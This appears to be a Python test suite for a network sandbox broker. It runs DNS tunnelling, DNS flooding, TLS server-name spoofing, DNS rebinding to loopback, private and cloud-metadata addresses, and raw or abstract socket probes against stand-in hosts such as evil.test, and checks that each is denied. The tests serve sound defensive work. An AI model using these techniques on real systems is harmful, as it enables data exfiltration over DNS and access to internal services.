"""Attacks 39, 40, 43 and what lies below them: names, addresses, server names, other sockets."""

import json
import secrets
import unittest

import hellos
from network_cases import (API, STUB, STUB_TLS, NetworkAttack, addresses, dns_wire, last_request,
                           launch, open_lab)

TUNNELLED = 12  # names of one tunnel
NXDOMAIN, REFUSED = 3, 5  # codes of DNS
LOOK_UP = ("import socket, sys\n"
           "for name in sys.argv[1:]:\n"
           "    try: print(socket.getaddrinfo(name, 443)[0][4][0])\n"
           "    except OSError: print('none')\n")


def setUpModule():
    open_lab()


def labels(parent):
    """Names that carry data."""
    return [f"{secrets.token_hex(20)}.{parent}" for _ in range(TUNNELLED)]


def dns_question(name, kind=1):
    return dns_wire.question(name, kind).decode("latin-1")


class DnsTunnel(NetworkAttack):
    """Attack 39. The stub resolver is asked outside, and never from the sandbox."""

    def look_up(self, names):
        return [launch.PYTHON, "-I", "-c", LOOK_UP, *names]

    def test_39_random_labels_through_the_system_resolver(self):
        names = [*labels("evil.test"), *labels("api.example.test"), "api.example.test.evil.test"]
        self.outside(self.look_up(names))
        self.assertLessEqual(set(names), set(self.lab.far.questions()))
        self.clear()
        run = self.inside(self.look_up(names), [API])
        self.assertEqual(run.output, "none\n" * len(names), run)
        self.assertEqual(self.lab.far.questions(), [])
        for name in names[:3]:
            run.assert_denied(event="dns", host=name)

    def test_39_labels_below_a_wildcard_are_answered_here_and_asked_nobody(self):
        names = labels("example.test")
        self.outside(self.look_up(names))
        self.assertLessEqual(set(names), set(self.lab.far.questions()))
        self.clear()
        run = self.inside(self.look_up(names), ["net:connect:*.example.test:443"])
        for line in run.output.split():
            self.assertRegex(line, r"^(28\.1[89]\.|2d00:2:)", run)
        self.assertEqual(self.lab.far.questions(), [])

    def direct(self, host, kind=1):
        """UDP and TCP to port 53 of a resolver that a program has hard-coded."""
        name = f"{secrets.token_hex(8)}.evil.test"
        message = dns_question(name, kind)
        length = chr(len(message) >> 8) + chr(len(message) & 255)
        return [{"to": [host, 53], "udp": True, "send": message},
                {"to": [host, 53], "send": length + message, "until": 14}]

    def test_39_direct_questions_to_any_resolver(self):
        for host in (addresses.RESOLVER, addresses.OTHER_RESOLVER):
            for kind in (1, 16, 10, 255):  # A, TXT, NULL, ANY
                with self.subTest(host=host, kind=kind):
                    self.clear()
                    orders = self.direct(host, kind)
                    self.talk_outside(*orders)
                    self.assertEqual(len(self.lab.far.questions()), 2)
                    self.clear()
                    run, talks = self.talk_inside(*orders, allow=[API])
                    self.assertEqual(self.lab.far.questions(), [], run)
                    replies = [talks[0]["got"], talks[1]["got"][2:]]
                    answer = NXDOMAIN if kind == 1 else REFUSED
                    self.assertEqual([ord(reply[3]) & 15 for reply in replies], [answer] * 2, run)

    def test_39_a_resolver_on_another_port_is_just_another_port(self):
        """DNS over TLS and the like; the echo port stands in for it."""
        order = {"to": [addresses.API, 9000], "send": dns_question("evil.test"), "until": 1}
        run, (talk,) = self.attack(order, allow=[API])
        self.assertEqual((talk.get("error"), self.seen()), ("ECONNREFUSED", []), run)
        run.assert_denied(event="refused", host=addresses.API, port=9000)


class DnsFlood(NetworkAttack):
    """Attack 39, the other way round: so many names that something must give way."""

    FLOOD = ("import socket, sys\n"
             "import secrets\n"
             "names = int(sys.argv[2])\n"
             "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:\n"
             "    asker.connect(('127.0.0.53', 53))\n"
             "    asker.settimeout(25)\n"
             "    for _ in range(names):\n"
             "        labels = [secrets.token_hex(8), *sys.argv[1].split('.')]\n"
             "        name = b''.join(bytes([len(x)]) + x.encode() for x in labels)\n"
             "        asker.send(bytes.fromhex('123401000001000000000000') + name "
             "+ bytes.fromhex('0000010001'))\n"
             "        asker.recv(2048)\n"
             "print(socket.create_connection(('stub.example.test', 80), 5).getpeername()[0])\n")
    NAMES = 6000  # the broker remembers 4096

    def test_39_names_below_a_wildcard_exhaust_nothing(self):
        run = self.inside([launch.PYTHON, "-I", "-c", self.FLOOD, "example.test", str(self.NAMES)],
                          ["net:connect:*.example.test:80"])
        self.assertRegex(run.output, r"^(28\.1[89]\.|2d00:2:)", run.said)
        self.assertEqual(set(self.lab.far.questions()) - {"stub.example.test"}, set())

    def test_39_denied_names_do_not_fill_the_disk(self):
        """A line for each would be the sandbox's way to fill the host's disk."""
        run = self.inside([launch.PYTHON, "-I", "-c", self.FLOOD, "evil.test", str(self.NAMES)],
                          [STUB])
        self.assertRegex(run.output, r"^(28\.1[89]\.|2d00:2:)", run.said)
        denied = run.find(event="dns", verdict="denied")
        self.assertGreater(len(denied), 0)
        self.assertLess(len(denied), self.NAMES / 2, "lines")
        self.assertLess(len(run.said.splitlines()), self.NAMES / 2, "lines on stderr")
        # The others are counted, and the questions for the allowed name with them.
        others = run.find(event="limit", reason="subjects")
        told = sum(line.get("count", 1) for line in [*denied, *others])
        self.assertIn(told - self.NAMES, range(4))
        self.assertEqual(set(self.lab.far.questions()) - {"stub.example.test"}, set())


class ServerNames(NetworkAttack):
    """Attack 40: the connection goes to the declared host, TLS asks for another one."""

    def hello(self, data, **more):
        return {"to": ["stub.example.test", 443], "send": data.decode("latin-1"), "until": 1,
                **more}

    def test_40_the_honest_hello_arrives(self):
        """Or the refusals below would mean nothing; in pieces and in several records as well."""
        honest = hellos.client_hello("stub.example.test")
        split = hellos.records(hellos.body(honest), 50)
        for order in (self.hello(honest), self.hello(honest, pieces=7), self.hello(split),
                      self.hello(split, pieces=33)):
            self.clear()
            run, _ = self.talk_inside(order, allow=[STUB_TLS])
            self.assertEqual(self.lab.far.at(addresses.STUB, 443), [order["send"]], run)

    def test_40_another_server_name(self):
        hello = hellos.client_hello("victim.test")
        split = hellos.records(hellos.body(hello), 40)
        orders = [self.hello(hello), self.hello(hello, pieces=1), self.hello(split),
                  self.hello(split, pieces=11)]
        run, talks = self.attack(*orders, allow=[STUB_TLS])
        self.assertEqual(self.seen(), [], run)
        self.assertEqual([talk["got"] for talk in talks], [""] * len(orders))
        denied = run.find(event="connect", serverName="victim.test", reason="other-name")
        self.assertEqual(len(denied), len(orders), run)

    def test_40_no_server_name(self):
        run, _ = self.attack(self.hello(hellos.client_hello(None)), allow=[STUB_TLS])
        self.assertEqual(self.seen(), [], run)
        run.assert_denied(event="connect", host="stub.example.test", reason="no-name")

    def test_40_server_names_that_two_readers_read_differently(self):
        names = [(b"stub.example.test", b"victim.test"), (b"stub.example.test\0.victim.test",),
                 (b"victim.test\0stub.example.test",), (b"stub.example.test ",), (b"",), (b".",),
                 (b"stub.example.test/victim.test",), (b"stub.example.test\xff",),
                 (b"*.example.test",), (b"x" * 300,), (b"44.128.0.40",)]
        orders = [self.hello(hellos.with_names(*each)) for each in names]
        run, _ = self.attack(*orders, allow=[STUB_TLS])
        self.assertEqual(self.seen(), [], run)
        denied = [line for line in run.find(event="connect") if line["verdict"] == "denied"]
        self.assertEqual(len(denied), len(orders), run)

    def test_40_two_hellos_in_one_flight(self):
        """A first hello with the right name, then at once one with another: only the first one is
        the connection's, and an origin that takes a second one is broken. The first must hold."""
        both = hellos.client_hello("victim.test") + hellos.client_hello("stub.example.test")
        run, _ = self.attack(self.hello(both), allow=[STUB_TLS])
        self.assertEqual(self.seen(), [], run)

    def test_40_what_is_no_tls_at_all(self):
        order = self.hello(b"SSH-2.0-probe\r\n")
        run, _ = self.attack(order, allow=[STUB_TLS])
        self.assertEqual(self.seen(), [], run)
        run.assert_denied(event="connect", host="stub.example.test", reason="not-spoken-here")

    def test_40_an_encrypted_inner_name(self):
        order = self.hello(hellos.with_encrypted_inner_hello("stub.example.test"))
        self.assert_seen_outside(order)
        run, _ = self.talk_inside(order, allow=[STUB_TLS])
        self.assertEqual(len(self.lab.far.at(addresses.STUB, 443)), 1)
        line = run.assert_line(event="connect", verdict="allowed")
        self.assertIn("inner name not verified", line["text"])
        self.clear()
        run, _ = self.talk_inside(order, allow=[STUB_TLS + "?sni=strict"])
        self.assertEqual(self.seen(), [], run)
        run.assert_denied(event="connect", reason="inner-name-unknown")

    def test_40_tls_with_another_name_on_other_ports(self):
        """There the broker dials first, and still reads what it recognises."""
        order = {**self.hello(hellos.client_hello("victim.test")), "to": ["raw.example.test", 7002]}
        run, _ = self.attack(order, allow=["net:connect:raw.example.test:7002"])
        self.assertEqual("".join(self.lab.far.at(addresses.RAW, 7002)
                                 + self.lab.far.at(addresses.RAW6, 7002)), "", run)
        run.assert_denied(host="raw.example.test", serverName="victim.test", reason="other-name")


class Addresses(NetworkAttack):
    """Attack 43: a declared name leads to a place that it must not lead to."""

    PLACES = {"loopback": "127.0.0.1", "link-local": addresses.METADATA,
              "private": addresses.PRIVATE, "carrier": addresses.CARRIER,
              "own": addresses.HOST4}
    ORDER = {"to": ["rebind.example.test", 80], "until": 1,
             "send": last_request("rebind.example.test")}
    RULE = "net:connect:rebind.example.test:80"

    def reason_against(self, place):
        is_own = place in (addresses.HOST4, addresses.HOST6)
        return "own-address" if is_own else "private-address"

    def reached(self):
        return {record["at"].rsplit(":", 1)[0] for record in self.seen()}

    def test_43_a_name_that_turns(self):
        for kind, place in self.PLACES.items():
            with self.subTest(place=kind):
                turns = {"rebind.example.test": [[addresses.STUB], [place]]}
                self.clear()
                self.lab.far.set_names(turns)
                self.talk_outside(self.ORDER, self.ORDER)
                self.assertEqual(self.reached(), {addresses.STUB, place})
                self.clear()
                self.lab.far.set_names(turns)
                run, talks = self.talk_inside(self.ORDER, self.ORDER, self.ORDER,
                                              allow=[self.RULE])
                self.assertTrue(talks[0]["got"].startswith("HTTP/1.1 200"), run)
                self.assertEqual(self.reached(), {addresses.STUB}, run)

    def test_43_a_name_that_leads_there_at_once(self):
        for kind, place in self.PLACES.items():
            with self.subTest(place=kind):
                self.lab.far.set_names({"rebind.example.test": [[place]]})
                self.talk_outside(self.ORDER)
                self.clear()
                run, (talk,) = self.talk_inside(self.ORDER, allow=[self.RULE])
                self.assertEqual((talk["got"], self.seen()), ("", []), run)
                run.assert_denied(event="connect", host="rebind.example.test",
                                  reason=self.reason_against(place))

    def test_43_forms_of_ipv6_that_embed_another_address(self):
        """NAT64 and 6to4 are no way in this lab, so their control is the mapped one's."""
        self.lab.far.set_names({"rebind.example.test": [["::ffff:127.0.0.1"]]})
        self.talk_outside(self.ORDER)
        for place in ("::ffff:127.0.0.1", "::ffff:10.66.0.5", "64:ff9b::7f00:1", "2002:7f00:1::1",
                      "::1", "::", addresses.PRIVATE6, addresses.HOST6, "fe80::1", "ff02::1"):
            with self.subTest(place=place):
                self.clear()
                self.lab.far.set_names({"rebind.example.test": [[place]]})
                run, (talk,) = self.talk_inside(self.ORDER, allow=[self.RULE])
                self.assertEqual((talk["got"], self.seen()), ("", []), run)
                run.assert_denied(event="connect", host="rebind.example.test",
                                  reason=self.reason_against(place))

    def test_43_the_next_address_is_checked_like_the_first(self):
        self.lab.far.set_names({"rebind.example.test": [[addresses.CLOSED, "127.0.0.1",
                                                         addresses.METADATA]]})
        control = self.outside(["/usr/bin/curl", "-sS", "http://rebind.example.test/"])
        self.assertEqual(control.output, "stub\n", "a plain client tries them all")
        self.clear()
        run, (talk,) = self.talk_inside(self.ORDER, allow=[self.RULE])
        self.assertEqual((talk["got"], self.seen()), ("", []), run)

    def test_43_the_assertion_holds_against_a_rule_that_names_the_place(self):
        order = {"to": [addresses.PRIVATE, 80], "until": 1,
                 "send": last_request(addresses.PRIVATE)}
        rule = f"net:connect:{addresses.PRIVATE}:80"
        run, (talk,) = self.attack(order, allow=[rule])
        self.assertTrue(talk["got"].startswith("HTTP/1.1 200"), f"named literally: {run}")
        self.clear()
        said = self.refusal(self.talk(order), [rule, "assert:fetch.block_rfc1918", *self.reads])
        self.assertIn("error[POLICY_CONFLICT]: assert:fetch.block_rfc1918 excludes what is "
                      f"declared: {rule}", said)
        self.assertEqual(self.seen(), [])

    def test_43_literal_addresses_of_every_kind(self):
        """Nothing but the declared endpoint: its own address, the host, the metadata service."""
        places = [addresses.STUB, addresses.VICTIM, addresses.METADATA, addresses.PRIVATE,
                  addresses.PRIVATE6, addresses.HOST4, addresses.HOST6]
        orders = [{"to": [place, 80], "until": 1, "send": last_request("stub.example.test")}
                  for place in places]
        run, talks = self.attack(*orders, allow=[STUB])
        self.assertEqual((self.seen(), [talk["got"] for talk in talks]), ([], [""] * len(places)),
                         run)
        for place in places:
            run.assert_denied(event="connect", host=place, port=80)

    def test_43_loopback_and_mapped_addresses(self):
        """The broker listens on the sandbox's loopback too; it must not be a way to the host's."""
        places = ["127.0.0.1", "127.1.2.3", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1",
                  f"::ffff:{addresses.VICTIM}", f"::ffff:{addresses.HOST4}"]
        orders = [{"to": [place, 80], "until": 1, "send": last_request("stub.example.test")}
                  for place in places]
        self.assert_seen_outside(*orders[:1], *orders[2:])  # nobody listens at the second one
        run, talks = self.talk_inside(*orders, allow=[STUB], together=True)
        self.assertEqual((self.seen(), [talk["got"] for talk in talks]), ([], [""] * len(places)),
                         run)

    def test_43_a_synthetic_address_without_a_name(self):
        orders = [{"to": [place, 80], "until": 1, "send": last_request("stub.example.test")}
                  for place in ("28.18.77.77", "28.19.255.255", "2d00:2::7777")]
        run, talks = self.talk_inside(*orders, allow=[STUB, "net:connect:*"])
        self.assertEqual((self.seen(), [talk["got"] for talk in talks]), ([], [""] * 3), run)
        run.assert_denied(event="connect", host="28.18.77.77", port=80)


class OtherSockets(NetworkAttack):
    """What is not TCP: datagrams, raw and packet sockets, echo requests, abstract sockets."""

    def test_datagrams_leave_nowhere(self):
        orders = [{"to": [host, port], "udp": True, "send": "datagram"}
                  for host in (addresses.RAW, addresses.RAW6) for port in (7000,)]
        run, talks = self.attack(*orders, allow=["net:connect:*"])
        self.assertEqual(self.seen(), [])
        for talk in talks:
            self.assertEqual(talk, {"error": "ECONNREFUSED", "got": ""}, run)
        run.assert_denied(event="refused", protocol="udp", host=addresses.RAW, port=7000)

    def test_raw_packet_and_echo_sockets_cannot_be_made(self):
        attempts = ["socket=2,3,255", "socket=2,3,1", "socket=2,3,6", "socket=10,3,58",
                    "socket=17,3,768", "socket=17,2,768"]
        # Root of the lab may; an ordinary user of it may not in any case.
        for result in self.probe_outside(*attempts, user=()):
            self.assertTrue(result.open, result)
        for result in self.probe_inside(*attempts, "socket=2,2,1", "socket=10,2,58",
                                        allow=["net:connect:*", "net:listen:8123"]):
            self.assertFalse(result.open, result)

    def test_the_hosts_abstract_sockets(self):
        name = "capgate-lab-" + secrets.token_hex(8)
        code = ("import socket, sys\n"
                "listener = socket.socket(socket.AF_UNIX)\n"
                "listener.bind('\\0' + sys.argv[1])\n"
                "listener.listen()\n"
                "print('listening', flush=True)\n"
                "while True: listener.accept()[0].sendall(b'hello from the host')\n")
        server = self.start([launch.PYTHON, "-I", "-c", code, name])
        self.assertEqual(server.stdout.readline(), b"listening\n")
        (found,) = self.probe_outside(f"unix=@{name}")
        self.assertEqual(found.detail, "hello from the host")
        for allow in ([API], [API, "ipc:connect:self"], ["net:connect:*", "ipc:connect:self"]):
            (found,) = self.probe_inside(f"unix=@{name}", allow=allow)
            self.assertFalse(found.open, found)

    def test_the_machinery_cannot_be_rebuilt(self):
        """Neither routes nor the redirect nor the interface can be changed from inside."""
        attempts = ["socket=16,3,0", "socket=16,3,12", "socket=16,2,0"]  # route, netfilter
        for result in self.probe_outside(*attempts):
            self.assertTrue(result.open, result)
        for result in self.probe_inside(*attempts, allow=["net:connect:*"]):
            self.assertFalse(result.open, result)

    def test_a_listener_of_the_sandbox_does_not_catch_captured_connections(self):
        """The server cannot take the broker's place at a declared port of its own sandbox."""
        code = ("import json, socket\n"
                "results = []\n"
                "for family, host in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):\n"
                "    for option in (socket.SO_KEEPALIVE, socket.SO_REUSEADDR, "
                "socket.SO_REUSEPORT):\n"
                "        with socket.socket(family) as listener:\n"
                "            listener.setsockopt(socket.SOL_SOCKET, option, 1)\n"
                "            try:\n"
                "                listener.bind((host, 7001))\n"
                "                listener.listen()\n"
                "                results.append('bound')\n"
                "            except OSError as error:\n"
                "                results.append(type(error).__name__)\n"
                "print(json.dumps(results))\n")
        control = self.outside([launch.PYTHON, "-I", "-c", code])
        self.assertEqual(json.loads(control.output), ["bound"] * 6)
        run = self.inside([launch.PYTHON, "-I", "-c", code],
                          ["net:connect:raw.example.test:7001"])
        self.assertEqual(json.loads(run.output), ["OSError"] * 6, run)


if __name__ == "__main__":
    unittest.main()
